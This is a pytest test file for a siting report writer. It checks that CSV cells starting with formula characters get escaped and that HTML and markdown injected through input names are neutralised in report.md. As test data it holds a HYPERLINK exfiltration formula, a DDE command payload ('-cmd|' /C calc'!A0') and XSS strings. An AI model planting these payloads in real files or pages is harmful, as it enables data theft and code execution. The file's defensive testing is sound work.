"""Outputs that cannot be turned against their readers: no live formula in a CSV cell (CSV injection), no HTML or
broken layout in report.md, whatever the names in the input."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from conftest import make_scenario, run_main
from test_model_tiny import ELDERLY, building, community, option

from siting.report.write import FORMULA_START, safe_cell, write_csv

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"y")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("甲社区", "甲社区"),
        ("a=b", "a=b"),
        (-5, -5),
        (-5.5, -5.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_write_csv_escapes_text_and_keeps_negative_numbers(tmp_path):
    table = pd.DataFrame({"name": [HYPERLINK, "ok", None], "delta": [-5.0, 2.0, -0.5], "count": [-1, 0, 3]})
    write_csv(tmp_path / "t.csv", table)
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig")
    assert back["name"].tolist()[:2] == ["'" + HYPERLINK, "ok"]
    assert back["delta"].tolist() == [-5.0, 2.0, -0.5] and back["count"].tolist() == [-1, 0, 3]


def cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_hostile_names_reach_no_output_raw(tmp_path):
    path = make_scenario(
        tmp_path / "in",
        communities=[
            {**community("C1", 0, 100), "name": "-cmd|' /C calc'!A0", "district": "@evil"},
            {**community("C2", 5000, 60), "name": "<script>alert(1)</script>|x", "district": "+x"},
        ],
        buildings=[{**building("B1", 0), "name": HYPERLINK}, {**building("B2", 5000), "name": "\t=1+1"}],
        options=[option("B1", "buy", 100), option("B2", "renovate", 60)],
        services={"elderly_care": {**ELDERLY, "label": {"zh": "养老|<b>", "en": "care\n# heading"}}},
        budget={"capex": 100},  # B1 only: C2 stays uncovered, so its name is in the report
        description="first line\n# injected heading\n<img src=x onerror=alert(1)>",
    )
    out = tmp_path / "out"
    result = run_main("run", path, "--out", out)
    assert result.returncode == 0, result.stderr
    for name in ("selected.csv", "coverage.csv"):
        for cell in cells(out / name):
            if cell.startswith(FORMULA_START):
                float(cell)  # only a negative number may start with '-'
    selected = pd.read_csv(out / "selected.csv", encoding="utf-8-sig")
    assert selected.loc[selected["building"] == "B1", "name"].item() == "'" + HYPERLINK
    coverage = pd.read_csv(out / "coverage.csv", encoding="utf-8-sig", keep_default_na=False)
    assert set(coverage["district"]) == {"'@evil", "'+x"}
    report = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in report and "<img" not in report and "<b>" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x (C2)" in report
    assert not any(line.startswith("# injected") or line.startswith("# heading") for line in report.splitlines())
    assert "> first line # injected heading &lt;img src=x onerror=alert(1)&gt;" in report
    lines = report.splitlines()
    header = lines[lines.index(next(line for line in lines if line.startswith("| 社区 Community")))]
    row = next(line for line in lines if "(C2)" in line)
    assert row.count("|") - row.count("\\|") == header.count("|")  # a pipe in a name does not add a column
